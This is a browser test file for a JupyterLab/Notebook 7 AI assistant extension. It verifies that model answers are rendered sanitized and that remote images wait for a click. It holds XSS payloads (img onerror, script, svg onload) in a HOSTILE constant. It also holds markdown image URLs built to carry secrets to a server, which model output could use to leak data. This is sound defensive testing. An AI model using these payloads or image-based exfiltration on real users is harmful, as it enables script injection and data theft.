"""Model text is never markup, and never a fetch, in a real JupyterLab and Notebook 7
(DESIGN §12; security review F3 and F5).

F3: JupyterLab trusts the outputs of a cell it ran, and of a notebook it signed on save,
and renders trusted ``text/markdown`` without its sanitizer. A ``%cowork`` answer holding
``<img src=x onerror=...>`` and ``<script>`` goes out as Loom's own MIME type, which the
labextension renders sanitized: nothing runs, live or after the saved (signed) notebook
is reopened, in JupyterLab and in Notebook 7.

F5: a remote image in model text (``![chart](http://host/p.png?d=secret)``) would be
fetched as soon as the answer renders, carrying whatever the model put in its URL. A
loopback server counts the requests: the cell's and the sidebar's answers send none, show
``[data-loom="remote-image"]`` naming the host, and a click on its button loads exactly
that image. Every wait is on a condition, never a sleep.
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
from lab_harness import PAGE_TIMEOUT_MS, SIDEBAR_ID, LabPage, write_notebook
from playwright.sync_api import expect
from sidebar_page import (
    ANSWER_TIMEOUT_MS,
    SIDEBAR,
    env_cell,
    open_chat,
    open_notebook7,
    run_all,
    send,
    wait_answer,
    wait_kernel_idle,
    wait_state,
)

from loom_jupyter.jupyter.cell.render import ANSWER_MIME
from loom_jupyter.testing import FakeAnthropic

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Locator

pytestmark = pytest.mark.browser

HOSTILE = (
    "Status report: <img src=x onerror=\"window.__loomXSS='img'\"> all good.\n\n"
    "<script>window.__loomXSS = 'script'</script>\n\n"
    "<svg onload=\"window.__loomXSS='svg'\"></svg>\n\n"
    "```python\nanswer = 6 * 7\n```\n\n"
    "| metric | value |\n|---|---|\n| rows | 42 |\n\n"
    "**XSS-END**"
)
ANSWER = '[data-loom="answer"]'
REMOTE = '[data-loom="remote-image"]'
LOAD = '[data-loom="load-remote-image"]'
LOADED = 'img[data-loom="remote-image-loaded"]'
XSS = "() => window.__loomXSS === undefined ? null : String(window.__loomXSS)"
# A 1x1 transparent PNG: what the counting server answers to every request.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)
# The notebook's cells trusted (Jupyter signs a saved notebook: its outputs are trusted).
ALL_TRUSTED = """() => window.jupyterapp.shell.currentWidget.content.widgets
    .filter((cell) => cell.model.type === 'code')
    .every((cell) => cell.model.trusted)"""
SAVED = """() => { const widget = window.jupyterapp.shell.currentWidget;
    return widget?.context?.model?.dirty === false; }"""


class CountingServer:
    """A loopback HTTP server that counts what the browser asks it for (a pixel to each)."""

    def __init__(self) -> None:
        self._paths: list[str] = []
        self._lock = threading.Lock()
        counter = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                with counter._lock:
                    counter._paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(PIXEL)

            def log_message(self, *args: Any) -> None:
                """Quiet."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def url(self, path: str) -> str:
        return f"http://{self.host}{path}"

    def requests(self, needle: str = "") -> list[str]:
        """The paths asked for so far that contain ``needle``."""
        with self._lock:
            return [path for path in self._paths if needle in path]

    def wait_for(self, needle: str, count: int = 1, timeout_s: float = 60.0) -> None:
        """Poll until ``count`` requests containing ``needle`` have arrived."""
        deadline = time.monotonic() + timeout_s
        while len(self.requests(needle)) < count:
            if time.monotonic() > deadline:
                pytest.fail(f"{needle!r} was not asked for: {self.requests()}", pytrace=False)
            time.sleep(0.05)

    def barrier(self, lab: LabPage, name: str) -> None:
        """The page fetches a marker and the server sees it: a fetch an image started
        when the answer was inserted, before this, had its chance to arrive."""
        lab.page.evaluate("(url) => { void fetch(url, { mode: 'no-cors' }); }", self.url(name))
        self.wait_for(name)

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture(scope="module")
def counting() -> Iterator[CountingServer]:
    server = CountingServer()
    try:
        yield server
    finally:
        server.close()


@pytest.fixture
def fake() -> Iterator[FakeAnthropic]:
    with FakeAnthropic() as server:
        yield server


def _served(lab: LabPage, path: Path) -> str:
    return path.relative_to(lab.server.root_dir).as_posix()


def _expect_safe_answer(lab: LabPage, notebook: Locator) -> Locator:
    """The cell's answer rendered by Loom's renderer: sanitized, its text and markdown kept."""
    answer = notebook.locator(f".jp-OutputArea {ANSWER}", has_text="XSS-END")
    expect(answer).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    expect(answer).to_contain_text("Status report:")
    expect(answer).to_contain_text("all good.")
    expect(answer.locator("strong", has_text="XSS-END")).to_be_visible()
    expect(answer.locator("pre code")).to_contain_text("answer = 6 * 7")
    expect(answer.locator("table td", has_text="42")).to_be_visible()
    dangerous = "[onerror], [onload], script, iframe"
    expect(notebook.locator(".jp-OutputArea").locator(dangerous)).to_have_count(0)
    expect(answer.locator("svg")).to_have_count(0)
    assert lab.page.evaluate(XSS) is None
    return answer


def _save(lab: LabPage) -> None:
    lab.app_eval("async (app) => { await app.commands.execute('docmanager:save'); }")
    lab.page.wait_for_function(SAVED, timeout=PAGE_TIMEOUT_MS)


def _saved_outputs(path: Path) -> list[dict[str, Any]]:
    notebook = json.loads(path.read_text(encoding="utf-8"))
    return [output for cell in notebook["cells"] for output in cell.get("outputs", [])]


def _check_saved(path: Path) -> None:
    """The saved notebook holds the answer as Loom's type, never as trusted markup."""
    outputs = _saved_outputs(path)
    answers = [o["data"][ANSWER_MIME] for o in outputs if ANSWER_MIME in o.get("data", {})]
    assert any("XSS-END" in answer["markdown"] for answer in answers), outputs
    assert not [o for o in outputs if "text/markdown" in o.get("data", {})]
    for output in outputs:
        assert "onerror" not in str(output.get("data", {}).get("text/html", "")), output


def _open_notebook7(lab: LabPage, served: str) -> Locator:
    open_notebook7(lab, served)
    return lab.page.locator(".jp-NotebookPanel").first


@pytest.mark.attack(
    attack="HTML in a %cowork answer (`<img onerror>`, `<script>`) runs as JavaScript in "
    "JupyterLab, live and again whenever the saved (signed, so trusted) notebook is reopened",
    stopped_by="The kernel sends model text as application/vnd.loom.markdown+json, never "
    "text/markdown or text/html; the labextension's renderer for it renders sanitized, "
    "trusted or not (answer.ts, markdown.ts)",
    ref="F3",
)
def test_html_in_a_cell_answer_runs_nothing_live_or_reopened(
    lab: LabPage, notebook_dir: Path, fake: FakeAnthropic
) -> None:
    fake.add(HOSTILE)
    path = write_notebook(
        notebook_dir, "xss.ipynb", [env_cell(fake.base_url), "%cowork Give me a status report"]
    )
    open_chat(lab, _served(lab, path))
    notebook = lab.page.locator(".jp-NotebookPanel:visible")
    _expect_safe_answer(lab, notebook)

    _save(lab)
    _check_saved(path)
    lab.boot(_served(lab, path))  # the page again, a new workspace: the notebook reopened
    lab.page.wait_for_function(ALL_TRUSTED)  # signed on save: JupyterLab trusts its outputs
    _expect_safe_answer(lab, lab.page.locator(".jp-NotebookPanel:visible"))
    lab.close_all()


@pytest.mark.attack(
    attack="HTML in a %cowork answer runs as JavaScript in Notebook 7, live and when the "
    "saved notebook is reopened",
    stopped_by="The same MIME type and renderer: Notebook 7 loads the prebuilt labextension's "
    "mime extension",
    ref="F3",
)
def test_html_in_a_cell_answer_runs_nothing_in_notebook7(
    fresh_lab: LabPage, notebook_dir: Path, fake: FakeAnthropic
) -> None:
    lab = fresh_lab  # a page of its own: Notebook 7 is another app than the shared JupyterLab
    fake.add(HOSTILE)
    path = write_notebook(
        notebook_dir, "xss7.ipynb", [env_cell(fake.base_url), "%cowork Give me a status report"]
    )
    served = _served(lab, path)
    notebook = _open_notebook7(lab, served)
    wait_kernel_idle(lab)
    lab.app_eval(f"(app) => {{ app.shell.activateById('{SIDEBAR_ID}'); }}")
    wait_state(lab.page.locator(SIDEBAR), "idle")  # Loom loaded: %cowork is there
    run_all(lab)
    _expect_safe_answer(lab, notebook)

    _save(lab)
    _check_saved(path)
    notebook = _open_notebook7(lab, served)  # reload: the saved notebook reopened
    lab.page.wait_for_function(ALL_TRUSTED)
    _expect_safe_answer(lab, notebook)


@pytest.mark.attack(
    attack="A remote image in model text (`![chart](http://host/p.png?d=secret)`) is fetched "
    "by the browser as soon as the answer renders, in the %cowork cell and in the sidebar: "
    "data leaves without a click or an approval",
    stopped_by="The one markdown path (markdown.ts, htmlguard.ts) rewrites the sanitizer's "
    "HTML in an inert template before it reaches the page: each remote image is a "
    '[data-loom="remote-image"] placeholder naming the host, loaded only by its button',
    ref="F5",
)
def test_remote_images_wait_for_a_click_in_the_cell_and_the_sidebar(
    lab: LabPage, notebook_dir: Path, fake: FakeAnthropic, counting: CountingServer
) -> None:
    cell_url = counting.url("/exfil.png?d=cell-secret")
    side_url = counting.url("/exfil.png?d=sidebar-secret")
    fake.add(f"Here is the chart.\n\n![sales chart]({cell_url})\n\nCELL-END")
    fake.add(f"And again.\n\n![sales chart]({side_url})\n\nSIDE-END")
    path = write_notebook(
        notebook_dir, "images.ipynb", [env_cell(fake.base_url), "%cowork Plot the sales"]
    )
    panel = open_chat(lab, _served(lab, path))
    notebook = lab.page.locator(".jp-NotebookPanel:visible")

    cell_answer = notebook.locator(f".jp-OutputArea {ANSWER}", has_text="CELL-END")
    expect(cell_answer).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    cell_box = cell_answer.locator(REMOTE)
    expect(cell_box).to_contain_text(counting.host)
    expect(cell_box).to_contain_text("sales chart")
    expect(cell_box).to_have_attribute("data-host", counting.host)

    send(panel, "Show it here too")
    side_answer = wait_answer(panel, "SIDE-END")
    side_box = side_answer.locator(REMOTE)
    expect(side_box).to_contain_text(counting.host)
    expect(panel.locator(REMOTE)).to_have_count(2)  # the cell's turn shows in the sidebar too
    expect(lab.page.locator(f"img[src*='{counting.host}']")).to_have_count(0)

    counting.barrier(lab, "/barrier-1")
    assert counting.requests("/exfil.png") == []

    side_box.locator(LOAD).click()
    loaded = side_answer.locator(LOADED)
    expect(loaded).to_be_visible()
    expect(loaded).to_have_js_property("naturalWidth", 1)  # the pixel arrived
    counting.barrier(lab, "/barrier-2")
    assert counting.requests("/exfil.png") == ["/exfil.png?d=sidebar-secret"]

    cell_box.locator(LOAD).click()
    counting.wait_for("d=cell-secret")
    expect(cell_answer.locator(LOADED)).to_have_js_property("naturalWidth", 1)
    counting.barrier(lab, "/barrier-3")
    assert sorted(counting.requests("/exfil.png")) == [
        "/exfil.png?d=cell-secret",
        "/exfil.png?d=sidebar-secret",
    ]
    lab.close_all()
